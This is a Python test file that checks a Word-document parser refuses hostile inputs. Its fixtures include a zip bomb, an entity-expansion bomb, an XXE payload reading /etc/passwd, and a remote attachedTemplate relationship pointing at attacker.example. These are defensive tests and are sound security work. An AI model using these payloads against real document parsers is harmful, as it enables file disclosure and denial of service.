"""Hostile files are refused with a clear message, in bounded time, and nothing is read
beyond the bounds."""

from __future__ import annotations

import io
import time
import zipfile

import pytest

from plenipot.formats.docx_in import extract_proposals
from plenipot.formats.docx_out import instrument_docx
from plenipot.formats.safety import (
    OLE_MAGIC,
    FormatError,
    Limits,
    check_size,
    check_text,
    open_docx,
    parse_xml,
)


@pytest.fixture(scope="module")
def good_docx(base) -> bytes:
    return instrument_docx(base)


def _rezip(
    data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, (replace or {}).get(info.filename, src.read(info.filename)))
        for name, content in (add or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


def test_a_good_file_opens(good_docx):
    package = open_docx(good_docx)
    assert "word/document.xml" in package.parts


def test_zip_bomb_is_refused_quickly(good_docx):
    bomb = _rezip(good_docx, add={"word/bomb.xml": b"<a>" + b" " * (200 * 1024 * 1024) + b"</a>"})
    assert len(bomb) < 1024 * 1024  # a few hundred kilobytes that inflate to 200 MB
    start = time.perf_counter()
    with pytest.raises(FormatError, match="zip bomb"):
        open_docx(bomb)
    assert time.perf_counter() - start < 1.0


def test_high_ratio_part_is_refused_even_under_the_total(good_docx):
    bomb = _rezip(good_docx, add={"word/bomb.xml": b"<a>" + b"x" * (5 * 1024 * 1024) + b"</a>"})
    with pytest.raises(FormatError, match="zip bomb"):
        open_docx(bomb)


def test_a_part_beyond_its_limit_is_refused_by_the_bounded_read(good_docx):
    limits = Limits(max_part_bytes=1000, max_ratio=10**9)
    with pytest.raises(FormatError, match="zip bomb"):
        open_docx(good_docx, limits)


def test_external_relationship_is_refused(good_docx):
    with zipfile.ZipFile(io.BytesIO(good_docx)) as z:
        rels = z.read("word/_rels/document.xml.rels").decode()
    evil = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/></Relationships>',
    )
    with pytest.raises(FormatError, match="external attachedTemplate"):
        open_docx(_rezip(good_docx, replace={"word/_rels/document.xml.rels": evil.encode()}))


def test_external_hyperlink_is_allowed(good_docx):
    with zipfile.ZipFile(io.BytesIO(good_docx)) as z:
        rels = z.read("word/_rels/document.xml.rels").decode()
    link = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="https://www.itu.int/" TargetMode="External"/>'
        "</Relationships>",
    )
    open_docx(_rezip(good_docx, replace={"word/_rels/document.xml.rels": link.encode()}))


def test_xml_entities_are_refused(good_docx):
    with zipfile.ZipFile(io.BytesIO(good_docx)) as z:
        document = z.read("word/document.xml").decode()
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        + document.split("?>", 1)[1].replace("considering", "&b;", 1)
    )
    with pytest.raises(FormatError, match="entities"):
        extract_proposals(_rezip(good_docx, replace={"word/document.xml": laughs.encode()}))


def test_external_entity_is_refused():
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    with pytest.raises(FormatError, match="entities"):
        parse_xml(xxe)


def test_password_protected_file_is_refused():
    encrypted = OLE_MAGIC + b"\x00" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 64
    with pytest.raises(FormatError, match="password"):
        open_docx(encrypted)


def test_doc_renamed_to_docx_is_refused():
    word97 = OLE_MAGIC + b"\x00" * 504 + "WordDocument".encode("utf-16-le") + b"\x00" * 64
    with pytest.raises(FormatError, match=r"Word 97-2003 document \(\.doc\)"):
        open_docx(word97)


def test_corrupt_file_is_refused(good_docx):
    with pytest.raises(FormatError, match="corrupt"):
        open_docx(good_docx[: len(good_docx) // 2])
    with pytest.raises(FormatError, match="not a Word document"):
        open_docx(b"%PDF-1.7 not a word file")


def test_zip_without_a_document_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hello.txt", "hi")
    with pytest.raises(FormatError, match="no document part"):
        open_docx(out.getvalue())


def test_a_file_of_200_mb_is_refused_before_reading():
    with pytest.raises(FormatError, match="at most 20 MB"):
        check_size(200 * 1024 * 1024)


def test_control_characters_are_refused():
    with pytest.raises(FormatError, match=r"control character \(U\+0007\) at character 5"):
        check_text("abcd\x07efg")
    assert check_text("line one\nline two\ttab") == "line one\nline two\ttab"


@pytest.mark.parametrize("override", ["\u202e", "\u202d", "\u2066", "\u2067"])
def test_bidi_overrides_are_refused(override):
    with pytest.raises(FormatError, match="bidirectional override"):
        check_text(f"resolves to {override}increase{override} the budget")


def test_arabic_marks_are_kept():
    text = "\u0623\u0646 \u200fيقرر\u200e"
    assert check_text(text) == text


def test_bidi_override_inside_a_docx_is_refused(base):
    from dataclasses import replace

    sneaky = replace(base, title=base.title + " \u202egnihton\u202c")
    with pytest.raises(FormatError, match="bidirectional override"):
        extract_proposals(instrument_docx(sneaky))


def test_proposal_with_no_recognisable_mark_is_refused(base):
    from plenipot.engine.proposals import Mark, Proposal
    from plenipot.formats.docx_out import proposals_docx

    proposal = Proposal(("EUR",), "EUR/27A1/1", Mark.SUP, "considering__a", reasons="Obsolete.")
    data = proposals_docx(base, [proposal])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        document = z.read("word/document.xml").decode()
    assert "SUP" in document
    unmarked = document.replace(">SUP<", ">XYZ<", 1)
    with pytest.raises(FormatError, match="'XYZ' before EUR/27A1/1 is not a mark"):
        extract_proposals(_rezip(data, replace={"word/document.xml": unmarked.encode()}), base=base)
    no_mark = document.replace(">SUP\t", "><", 1).replace(">SUP<", "><", 1)
    with pytest.raises(FormatError, match="no recognisable mark"):
        extract_proposals(_rezip(data, replace={"word/document.xml": no_mark.encode()}), base=base)
